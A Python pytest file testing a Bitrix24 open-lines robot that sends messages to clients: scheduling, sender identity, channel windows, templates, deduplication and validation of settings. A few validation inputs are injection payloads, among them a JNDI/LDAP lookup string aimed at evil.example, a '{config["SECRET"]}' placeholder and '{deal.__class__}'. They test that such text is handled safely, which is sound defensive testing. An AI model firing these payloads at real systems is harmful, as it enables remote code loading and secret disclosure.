"""One message to the client: when it goes, as whose, and why it does not."""

from __future__ import annotations

import asyncio

import pytest

from core.bitrix24.command import Json
from core.bitrix24.documents import Item
from core.effects import AddToChat, CreateTask, Effect, RemoveFromChat, SendAsOperator, SendAutomatic
from core.robots import Done, EffectResult, Watch
from core.texts.template import Template, Variant
from core.texts.text import Text
from tests.activities.scene import (
    CHAT,
    LINE,
    OUR_CONTACT,
    SESSION,
    NoDialogHere,
    Scene,
    confirmed,
    kinds,
    minutes_of,
    refused,
    returned,
)
from tests.core.dialogs.portal import ANNA, BOT, Session
from tests.core.robots.office import ADMIN, BORIS
from tests.town import Town

TEXT = "Здравствуйте! Ваш заказ готов."
#: Monday, 19:00, and Tuesday, 09:00, in minutes from Monday, 15:00.
EVENING, MORNING = 240, 18 * 60


def scene(text: str = TEXT, *, minute: float = 1, **properties: object) -> Scene:
    """A dialog that Anna accepted, in which the client wrote at 15:00."""
    made = Scene("send_message", {"text": text, **properties})
    made.client()
    made.minute = minute
    made.started_at = made.now
    return made


def as_anna(text: str = TEXT) -> SendAsOperator:
    return SendAsOperator(
        chat_id=CHAT,
        session_id=SESSION,
        text=text,
        crm_type="deal",
        crm_id=17,
        user_id=ANNA,
        after_message_id=1_777_002,
    )


def automatic(text: str = TEXT) -> SendAutomatic:
    return SendAutomatic(chat_id=CHAT, session_id=SESSION, text=text, after_message_id=1_777_002)


def plain(it: Scene) -> tuple[Effect, ...]:
    """What was done, without the mark by which the ledger lets it happen once."""
    return tuple(effect.model_copy(update={"once": ""}) for effect in it.effects)


def blocked(done: Done) -> str:
    values = returned(done)
    assert values["sent"] is False
    assert values["message_id"] == 0
    assert values["blocked_reason"] == done.result
    return done.result


# --- now --------------------------------------------------------------------------------------------------------


async def test_now_in_the_name_of_the_operator() -> None:
    it = scene()
    it.ends["send_as_operator"] = confirmed("send_as_operator", {"message_id": 555})
    done = await it.done()
    assert plain(it) == (as_anna(),)
    assert done.result == "done"
    assert returned(done) == {"message_id": 555, "sent": True, "blocked_reason": ""}
    assert it.office.requests == 1


async def test_now_also_at_night() -> None:
    it = scene(minute=EVENING)
    await it.done()
    assert kinds(it.effects) == ["send_as_operator"]


async def test_every_check_is_told() -> None:
    it = scene()
    await it.done()
    assert [(check.text.ru, check.passed) for check in it.told[0][1].checks] == [
        ("Диалог открыт", True),
        ("Ход: Клиент ждёт ответа с 15:00: без ответа 1 сообщение.", True),
        ("Окно канала открыто", True),
        ("От имени сотрудника, который в чате", None),
    ]


async def test_a_dialog_on_the_contact_is_written_to_by_the_contact() -> None:
    it = scene()
    it.office.sessions[:] = [Session(SESSION, CHAT, (OUR_CONTACT,))]
    await it.done()
    (message,) = it.effects
    assert isinstance(message, SendAsOperator)
    assert (message.crm_type, message.crm_id) == ("contact", 5)


async def test_no_dialog_is_the_engines_answer() -> None:
    it = scene()
    it.office.sessions.clear()
    with pytest.raises(NoDialogHere):
        await it.run()


# --- later ------------------------------------------------------------------------------------------------------


async def test_after_so_many_working_minutes() -> None:
    it = scene(when="after", after_minutes="200")
    wait = await it.waits()
    assert minutes_of(wait.due) == MORNING + 21
    assert it.last.text == Text(
        "Отправим 25 нояб. в 09:21: 2 ч 59 мин сегодня до 18:00, 21 мин завтра с 09:00.",
        "To be sent 25 Nov at 09:21: 2 h 59 min today until 18:00, 21 min tomorrow from 09:00.",
    )
    assert len(wait.counted) == 2
    it.minute = MORNING + 21
    await it.done()
    assert plain(it) == (as_anna(),)


async def test_minutes_alone_mean_after() -> None:
    await scene(after_minutes="10").waits_until(11)


async def test_an_early_wake_waits_on() -> None:
    it = scene(after_minutes="10")
    await it.waits()
    it.minute = 5
    await it.waits_until(11)
    await it.done()


async def test_around_the_clock_all_minutes_count() -> None:
    await scene(after_minutes="200", calendar="always").waits_until(201)


async def test_in_working_time_at_once() -> None:
    it = scene(when="working_time")
    await it.done()
    assert plain(it) == (as_anna(),)


async def test_in_working_time_at_the_opening() -> None:
    it = scene(when="working_time", minute=EVENING)
    await it.waits_until(MORNING)
    assert it.last.text == Text(
        "Сейчас нерабочее время: отправим 25 нояб. в 09:00.", "It is outside working time: to be sent 25 Nov at 09:00."
    )
    await it.done()


async def test_hours_that_changed_meanwhile_count() -> None:
    it = scene(when="working_time", minute=EVENING)
    await it.waits_until(MORNING)
    it.lines.clear()
    it.office.lines[LINE] |= {"WORKTIME_FROM": "10"}
    await it.waits_until(MORNING + 60)


async def test_what_was_true_at_the_start_is_only_a_hint() -> None:
    it = scene(after_minutes="10", only_if_ball="us")
    await it.waits_until(11)
    it.human(at=5)
    assert blocked(await it.done()) == "nothing_to_do"


# --- only if ----------------------------------------------------------------------------------------------------

BALLS: list[tuple[str, list[str], bool]] = [
    ("us", ["C Где заказ?"], True),
    ("us", ["C Где заказ?", "H Едет"], False),
    ("us", ["H Готово", "C Спасибо"], False),
    ("client", ["C Где заказ?"], False),
    ("client", ["C Где заказ?", "H Едет"], True),
    ("client", ["H Готово", "C Спасибо"], False),
    ("any", ["C Где заказ?"], True),
    ("any", ["C Где заказ?", "H Едет"], True),
    ("any", [], True),
]


@pytest.mark.parametrize(("ball", "talk", "goes"), BALLS)
async def test_whose_turn_it_is(ball: str, talk: list[str], goes: bool) -> None:
    it = Scene("send_message", {"text": TEXT, "only_if_ball": ball}, minute=10)
    for number, line in enumerate(talk):
        (it.client if line.startswith("C") else it.human)(line[2:], at=number)
    done = await it.done()
    assert (done.result == "done") is goes
    if not goes:
        assert blocked(done) == "nothing_to_do"


# --- as whose ---------------------------------------------------------------------------------------------------


async def test_nobody_accepted_it_so_it_is_automatic() -> None:
    it = scene()
    it.accept(0)
    it.ends["send_automatic"] = confirmed("send_automatic", {"message_id": 556})
    done = await it.done()
    assert plain(it) == (automatic(),)
    assert returned(done) == {"message_id": 556, "sent": True, "blocked_reason": ""}


async def test_a_bot_holds_it_so_it_is_automatic() -> None:
    it = scene()
    it.accept(BOT)
    await it.done()
    assert plain(it) == (automatic(),)


async def test_in_a_silent_chat_only_an_automatic_one_is_seen() -> None:
    it = scene()
    it.office.chats[CHAT]["entity_data_3"] = "Y"
    await it.done()
    assert plain(it) == (automatic(),)


async def test_a_chat_that_hangs_on_nothing_that_may_be_named_takes_automatic_ones_only() -> None:
    """Only leads, deals, contacts and companies can be named when writing as an operator (openlines.md 3.3)."""
    process = Item(128, 2)
    it = scene()
    it.item = process
    it.office.items[process] = {"title": "Монтаж", "stageId": "DT128_1:NEW"}
    it.office.sessions[:] = [Session(SESSION, CHAT, (process,))]
    it.office.chats[CHAT] |= {
        "entity_data_1": f"N|NONE|0|N|N|{SESSION}|0|0|0|0",
        "entity_data_2": "LEAD|0|COMPANY|0|CONTACT|0|DEAL|0",
    }
    await it.done()
    assert plain(it) == (automatic(),)


async def test_somebody_else_in_the_chat_may_speak() -> None:
    it = scene(as_user="user_31")
    it.office.chats[CHAT]["manager_list"] = [ANNA, BORIS]
    await it.done()
    (message,) = it.effects
    assert isinstance(message, SendAsOperator)
    assert message.user_id == BORIS
    assert it.office.requests == 1


async def test_a_member_whom_only_the_list_knows() -> None:
    it = scene(as_user="user_31")
    it.office.members[CHAT] = [ANNA, str(BORIS)]
    await it.done()
    assert kinds(it.effects) == ["send_as_operator"]


@pytest.mark.parametrize("members", [[ANNA], []], ids=["not in it", "nobody may tell"])
async def test_who_is_not_in_the_chat_comes_and_goes(members: list[Json]) -> None:
    it = scene(as_user="user_31")
    it.office.members[CHAT] = members
    done = await it.done()
    who = {"crm_type": "deal", "crm_id": 17, "chat_id": CHAT, "user_id": BORIS}
    assert it.effects[0] == AddToChat.model_validate(who)
    assert it.effects[2] == RemoveFromChat.model_validate(who)
    message = it.effects[1]
    assert isinstance(message, SendAsOperator)
    assert message.user_id == BORIS
    assert message.requires == AddToChat.kind
    assert done.result == "done"


async def test_who_could_not_come_did_not_speak() -> None:
    it = scene(as_user="user_31")
    it.ends["add_to_chat"] = refused("add_to_chat")
    it.ends["send_as_operator"] = refused("send_as_operator")
    assert blocked(await it.done()) == "failed"
    assert it.last.text.ru == "Битрикс24 не принял сообщение."


# --- the channel's window ---------------------------------------------------------------------------------------


async def test_a_closed_window_is_not_written_into() -> None:
    it = scene()
    it.window_closes(0.5)
    assert blocked(await it.done()) == "blocked_window"
    assert it.acts == []


async def test_a_closed_window_gives_a_task() -> None:
    it = scene(window_policy="task")
    it.window_closes(0.5)
    assert blocked(await it.done()) == "blocked_window"
    assert plain(it) == (
        CreateTask(
            title="Написать клиенту: окно канала закрыто",
            description=f"https://town.bitrix24.ru/online/?IM_HISTORY=imol|{SESSION}",
            responsible_id=ANNA,
            creator_id=ADMIN,
            deadline_at=it.now,
            binding="D_17",
        ),
    )
    assert it.last.text.ru == "Окно канала закрыто; поставлена задача."


async def test_a_task_that_was_refused_is_not_claimed() -> None:
    it = scene(window_policy="task")
    it.window_closes(0.5)
    it.accept(0)
    it.ends["create_task"] = refused("create_task")
    assert blocked(await it.done()) == "blocked_window"
    assert it.last.text.ru == "Окно канала закрыто; поставить задачу не удалось."
    (task,) = it.effects
    assert isinstance(task, CreateTask)
    assert task.responsible_id == ADMIN


async def test_a_closed_window_is_waited_out() -> None:
    it = scene(window_policy="wait_client")
    it.window_closes(0.5)
    wait = await it.waits()
    assert minutes_of(wait.due) == 29 * 24 * 60 + 1
    assert wait.watch == Watch(CHAT, 1_777_002)
    it.minute = 50
    it.human(at=40)
    assert (await it.waits()).due == wait.due, "a message of ours opens nothing"
    it.minute = 60
    it.client("Ау")
    it.window_closes(60 + 1440)
    await it.done()
    assert kinds(it.effects) == ["send_as_operator"]


async def test_a_client_who_never_comes() -> None:
    it = scene(window_policy="wait_client")
    it.window_closes(0.5)
    it.minute = minutes_of((await it.waits()).due)
    assert blocked(await it.done()) == "blocked_window"


async def test_a_client_who_comes_at_night_is_answered_in_working_time() -> None:
    it = scene(window_policy="wait_client", when="working_time")
    it.window_closes(0.5)
    await it.waits()
    it.minute = EVENING
    it.client("Ау")
    it.window_closes(EVENING + 1440)
    await it.waits_until(MORNING)
    await it.done()
    assert kinds(it.effects) == ["send_as_operator"]


async def test_a_delayed_message_whose_window_opens_goes_at_once() -> None:
    it = scene(window_policy="wait_client", after_minutes="10")
    it.window_closes(5)
    await it.waits_until(11)
    await it.waits()
    it.minute = 30
    it.client("Ау")
    it.window_closes(30 + 1440)
    await it.done()
    assert kinds(it.effects) == ["send_as_operator"]


# --- closed -----------------------------------------------------------------------------------------------------


async def test_a_closed_dialog_is_not_opened_again() -> None:
    it = scene()
    it.close()
    assert blocked(await it.done()) == "cancelled_closed"
    assert it.acts == []


async def test_a_dialog_that_is_closing_is_left_alone() -> None:
    it = scene()
    it.data(4, "Y")
    assert blocked(await it.done()) == "cancelled_closed"


async def test_closed_while_the_message_waited() -> None:
    it = scene(after_minutes="10")
    await it.waits_until(11)
    it.close()
    assert blocked(await it.done()) == "cancelled_closed"


# --- the words --------------------------------------------------------------------------------------------------


async def test_places_are_filled() -> None:
    it = scene("{client.first_name}, заказ «{deal.title}» готов. {operator.name}")
    await it.done()
    assert plain(it) == (as_anna("Иван, заказ «Окна» готов. Анна Петрова"),)


MISSING: list[tuple[str, str, str, str]] = [
    ("default", "Привет, {contact.secondName}!", "done", "Привет, !"),
    ("default", 'Привет, {contact.secondName, default "друг"}!', "done", "Привет, друг!"),
    ("skip", "Привет, {contact.secondName}!", "guard_failed", ""),
    ("skip", 'Привет, {contact.secondName, default "друг"}!', "done", "Привет, друг!"),
    ("fail", "Привет, {contact.secondName}!", "failed", ""),
    ("fail", "Привет, {contact.name}!", "done", "Привет, Иван!"),
]


@pytest.mark.parametrize(("policy", "template", "result", "text"), MISSING)
async def test_what_is_missing(policy: str, template: str, result: str, text: str) -> None:
    it = scene(template, missing_var=policy)
    done = await it.done()
    assert done.result == result
    if text:
        assert plain(it) == (as_anna(text),)
    else:
        assert blocked(done) == result
        assert it.last.text == Text(
            "Нет значения для {contact.secondName}.", "There is no value for {contact.secondName}."
        )


async def test_nothing_is_left_of_the_text() -> None:
    it = scene(" {contact.secondName} ")
    assert blocked(await it.done()) == "guard_failed"
    assert it.last.text.ru == "После подстановки текст пуст."


async def test_a_text_that_grew_too_long() -> None:
    it = scene("{deal.title}" * 10)
    it.office.items[it.item]["title"] = "о" * 2_001
    assert blocked(await it.done()) == "failed"
    assert it.last.text.ru == "Сообщение длиннее 20 000 знаков."


async def test_values_are_words_and_nothing_else() -> None:
    it = scene("{deal.title}")
    it.office.items[it.item]["title"] = "{client.name} $result[item] {7*7}"
    await it.done()
    assert plain(it) == (as_anna("{client.name} $result[item] {7*7}"),)


async def test_the_same_text_is_not_sent_twice() -> None:
    it = scene()
    it.said.add((CHAT, TEXT))
    assert blocked(await it.done()) == "skipped_duplicate"
    assert it.acts == []


async def test_unless_it_may_be() -> None:
    it = scene(dedupe_hours="0")
    it.said.add((CHAT, TEXT))
    assert (await it.done()).result == "done"


async def test_two_runs_at_the_same_moment_have_one_mark() -> None:
    marks = set()
    for when in ("now", "working_time"):
        it = scene(when=when)
        await it.done()
        marks |= {effect.once for effect in it.effects}
    assert len(marks) == 1
    assert next(iter(marks)).startswith(f"say|{CHAT}|")
    later = scene(minute=24 * 60 + 1)
    await later.done()
    assert later.effects[0].once not in marks
    free = scene(dedupe_hours="0")
    await free.done()
    assert free.effects[0].once == ""


async def test_the_second_of_two_runs_says_so() -> None:
    it = scene()
    what = Text("Сообщение", "Message")
    it.ends["send_as_operator"] = EffectResult("send_as_operator", "skipped", what, {"because": "once"})
    assert blocked(await it.done()) == "skipped_duplicate"


# --- which text -------------------------------------------------------------------------------------------------

RULES = "счёт|оплат* => Реквизиты\nre:где.*заказ => Статус\nживой => Оператор"


def with_answers(it: Scene) -> Scene:
    it.office.lines[LINE]["QUICK_ANSWERS_IBLOCK_ID"] = "181"
    it.office.sections = [{"ID": "1", "NAME": "Оплата", "CODE": "PAYMENT"}]
    it.office.quick = [
        {"ID": "1", "NAME": "Реквизиты", "DETAIL_TEXT": "Наши реквизиты: …", "SORT": "1", "IBLOCK_SECTION_ID": "1"},
        {"ID": "2", "NAME": "Статус", "DETAIL_TEXT": "{client.first_name}, заказ едет.", "SORT": "1"},
        {"ID": "3", "NAME": "Опечатка", "DETAIL_TEXT": "{clinet}!", "SORT": "1"},
    ]
    return it


CHOSEN: list[tuple[str, dict[str, object], str]] = [
    ("Куда оплатить?", {"template_rules": RULES}, "Наши реквизиты: …"),
    ("Где мой заказ?", {"template_rules": RULES}, "Иван, заказ едет."),
    ("Добрый день", {"template_rules": RULES}, TEXT),
    ("Добрый день", {"template_rules": RULES, "quick_reply": "Оплата"}, "Наши реквизиты: …"),
    ("Позовите, есть кто живой?", {"template_rules": RULES}, TEXT),
    ("Позовите, есть кто живой?", {"template_rules": RULES, "quick_reply": "статус"}, "Иван, заказ едет."),
    ("Что угодно", {"quick_reply": "Реквизиты"}, "Наши реквизиты: …"),
    ("Что угодно", {"quick_reply": "Нет такого"}, TEXT),
]


@pytest.mark.parametrize(("says", "form", "text"), CHOSEN)
async def test_the_text_is_chosen_by_the_words_of_the_request(says: str, form: dict[str, object], text: str) -> None:
    """«Выбор шаблона по ключевым словам» (S2-18)."""
    it = with_answers(Scene("send_message", {"text": TEXT, **form}))
    it.client(says)
    it.minute = 1
    await it.done()
    (message,) = it.effects
    assert isinstance(message, SendAsOperator)
    assert message.text == text


async def test_all_that_the_client_asked_since_our_answer_counts_and_nothing_before() -> None:
    it = with_answers(Scene("send_message", {"text": TEXT, "template_rules": RULES}))
    it.client("Куда оплатить?", at=-9)
    it.human("Сейчас пришлю", at=-8)
    it.client("Ещё: где мой заказ?", at=-2)
    it.client("Ау", at=-1)
    await it.done()
    (message,) = it.effects
    assert isinstance(message, SendAsOperator)
    assert message.text == "Иван, заказ едет."


async def test_the_log_names_the_rule_and_not_the_clients_words() -> None:
    it = with_answers(scene(template_rules="заказ => Статус"))
    await it.done()
    assert "Правило «заказ => Статус»" in str(it.told)
    assert "Где мой" not in str(it.told)


async def test_a_place_in_a_quick_answer_that_nobody_can_fill() -> None:
    it = with_answers(scene(quick_reply="Опечатка"))
    assert blocked(await it.done()) == "failed"
    assert it.last.text.ru == "В быстром ответе нет такой подстановки: {clinet}."


async def test_a_line_without_quick_answers() -> None:
    it = scene(quick_reply="Реквизиты")
    await it.done()
    assert plain(it) == (as_anna(),)
    assert it.office.requests == 1


TEMPLATE = Template(
    "thanks", "Спасибо", "Спасибо!", (Variant("Чат: спасибо!", channel="livechat"), Variant("Danke!", language="de"))
)


@pytest.mark.parametrize(("field", "value"), [("quick_reply", " Thanks "), ("template_rules", "привет|ау => thanks")])
async def test_a_text_of_our_own_is_named_by_its_code(field: str, value: str) -> None:
    made = Scene("send_message", {"text": TEXT, field: value})
    made.client()
    it = with_answers(made)
    it.minute = 1
    it.started_at = it.now
    it.desk.templates["thanks"] = TEMPLATE
    it.client("Привет", at=0)
    await it.done()
    (message,) = it.effects
    assert isinstance(message, SendAsOperator)
    assert message.text == "Чат: спасибо!"
    assert "Шаблон «Спасибо»" in str(it.told)
    assert it.office.requests == 1, "the list of the line is not read for it"


# --- how it ends ------------------------------------------------------------------------------------------------


async def test_bitrix_refused() -> None:
    it = scene()
    it.ends["send_as_operator"] = refused("send_as_operator")
    assert blocked(await it.done()) == "failed"


async def test_a_check_says_what_would_have_been() -> None:
    it = scene()
    it.dry = True
    done = await it.done()
    assert done.result == "done", "the engine makes it dry_run"
    assert returned(done)["sent"] is False
    assert it.last.text.ru == "Проверка: сообщение было бы отправлено."


async def test_a_check_of_a_closed_window() -> None:
    it = scene(window_policy="task")
    it.dry = True
    it.window_closes(0.5)
    await it.done()
    assert it.last.text.ru == "Проверка: окно канала закрыто, была бы поставлена задача."


# --- refused at launch ------------------------------------------------------------------------------------------

REJECTED: list[tuple[dict[str, object], str]] = [
    ({}, "«Текст сообщения»: не заполнено."),
    ({"text": " \t\r\n "}, "«Текст сообщения»: не заполнено."),
    ({"text": ["a", "b"]}, "«Текст сообщения»: здесь нужно одно значение."),
    ({"text": "a" * 20_001}, "«Текст сообщения»: больше 20 000 знаков отправить нельзя."),
    ({"text": "Hi {deal.__class__}"}, "«Текст сообщения»: нет такой подстановки: {deal.__class__}."),
    ({"text": "до {promise.deadline}"}, "«Текст сообщения»: нет такой подстановки: {promise.deadline}."),
    ({"text": "x", "after_minutes": "525601"}, "«Через сколько рабочих минут»: нужно целое число от 0 до 525600."),
    ({"text": "x", "wait_result": "y"}, "«Ждать результата»: нужно «да» или «нет» (Y или N)."),
    ({"text": "x", "template_rules": "счёт"}, "«Правила шаблонов», строка 1: нужно «слово1|слово2 => код»."),
    (
        {"text": "x", "template_rules": "счёт => bill\nre:( => x"},
        "«Правила шаблонов», строка 2: такое выражение не подходит (до 200 знаков, синтаксис RE2).",
    ),
    ({"text": "x", "as_user": "group_d5"}, "«От чьего имени»: нужен сотрудник, а не отдел."),
    ({"text": "x", "when": "tomorrow"}, "«Когда отправить»: нет такого варианта; есть now, working_time, after."),
    ({"text": "x", "dedupe_hours": "9000"}, "«Не повторять тот же текст, часов»: нужно целое число от 0 до 8760."),
]


@pytest.mark.parametrize(("properties", "ru"), REJECTED)
def test_what_cannot_work_is_refused_with_a_word(properties: dict[str, object], ru: str) -> None:
    said = Scene("send_message").robot.check(properties)
    assert said is not None
    assert said.ru == ru
    assert said.en
    assert said.en != said.ru


@pytest.mark.parametrize(
    "text", ["a" * 20_000, "Hi {7*7}", 'Hi {config["SECRET"]}', "Hi ${jndi:ldap://evil.example/a}", "Hi {contact.name}"]
)
def test_what_is_taken(text: str) -> None:
    assert Scene("send_message").robot.check({"text": text, "after_minutes": "5"}) is None


def test_runs_that_wait_at_the_first_step_are_found() -> None:
    robot = Scene("send_message").robot
    assert robot.first_step == "arm"
    assert set(robot.steps) == {"arm", "send", "sent", "blocked"}


# --- in the portal ----------------------------------------------------------------------------------------------


async def test_two_items_of_one_client_at_the_same_moment_send_one_message(town: Town) -> None:
    """Two deals come to the stage together, and both find the chat of the same client."""
    await town.at("2026-11-24T12:00:00")
    await town.place("send_message", text=TEXT)
    first = await town.deal(on_contact=True)
    second = await town.order(
        "items", entityTypeId=2, title="Ещё одна", stageId="C3:NEW", assignedById=8, contactIds=[first.contact]
    )
    await town.move(first)
    await town.order("items/move", entityTypeId=2, id=second["id"], stageId="C3:WORK")
    await town.portal.queue.drain()
    await town.advance(seconds=1)
    other = await town.another_worker()
    await other.engine.beat()
    await asyncio.gather(town.worker.turn(), other.turn())
    await town.settle()
    assert [one["text"] for one in await town.outbox(first)].count(TEXT) == 1
    results = sorted(card.run.result for card in await town.runs())
    assert results == ["done", "skipped_duplicate"]


async def test_a_quick_answer_of_the_line_is_sent_with_its_emoji(town: Town) -> None:
    await town.at("2026-11-24T12:00:00")
    deal = await town.deal(says="Спасибо вам!")
    await town.place("send_message", text=TEXT, template_rules="спасибо => Рукопожатие")
    await town.move(deal)
    await town.settle()
    assert (await town.outbox(deal))[-1]["text"] == "🤝"
